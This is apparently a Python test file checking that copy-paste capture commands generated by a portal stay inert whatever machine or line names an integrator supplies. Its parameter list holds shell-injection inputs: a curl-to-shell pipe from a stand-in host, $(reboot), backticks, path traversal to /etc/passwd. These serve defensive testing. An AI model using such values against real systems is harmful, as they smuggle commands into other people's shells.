"""The commands a page offers to be copied: whatever machines and lines are called, a shell reads words and no more."""

import shlex
from datetime import UTC, datetime

import pytest

from sekisho.domain.casework.case import CapturePlan
from sekisho.portal.apply.capture_command import commands_of, file_of

OPTIONS = {"--out", "--identity", "--to", "--case", "--line"}
OFFICE = "https://office.example/"


def plan(*devices):
    """A plan for devices."""
    return CapturePlan("ab" * 32, "cd" * 32, devices, datetime(2026, 6, 1, tzinfo=UTC), "office")


@pytest.mark.parametrize("name", [
    "x; curl evil.example | sh", "$(reboot)", "`reboot`", "a && b", "a & calc", 'x"; reboot', "x'; reboot'", "%PATH%",
    "../../etc/passwd", "-rf", "--out=x", "a\\b", "<x>", "!x", "*", "~", "(x)", "{a,b}", "^x", "#x",
])  # fmt: skip
def test_no_name_is_more_than_a_word_to_a_shell(name):
    """What an integrator calls a machine or a line is pasted by another: nothing of it is carried out."""
    for said in ("\n".join(commands_of(OFFICE, "C", name, plan(*named))) for named in ((name,), (name, "B"))):
        assert not set(said) & set("$`;&|<>(){}*?~!#^%'\\"), said
        assert said.count('"') % 2 == 0
        words = [shlex.split(line) for line in said.splitlines()]
        assert {len(one) for one in words} == {4, 8, 10}
        assert {word for one in words for word in one if word.startswith("-")} == OPTIONS
        assert ".." not in words[1][5].split("/")


def test_ordinary_names_stand_as_they_are():
    """Letters of any script, dots and dashes need no quotes; a name of words gets those every shell knows."""
    (_, run, check, upload) = commands_of(OFFICE, "RSF26-00001", "L1", plan("MC-500"))
    assert run.endswith("RSF26-00001-L1-abababab.toml --out MC-500.zip --identity collector")
    assert check == "sekisho capture check MC-500.zip"
    assert upload == f"sekisho capture upload MC-500.zip --to {OFFICE} --case RSF26-00001 --line L1"
    (_, run, _, upload) = commands_of(OFFICE, "C", "加工 ライン1", plan("A", "B"))
    assert "--out C-加工_ライン1 " in run
    assert upload == f'sekisho capture upload C-加工_ライン1/A.zip --to {OFFICE} --case C --line "加工 ライン1"'
    assert file_of("C", "a/b", plan()) == "C-a_b-abababab.toml"
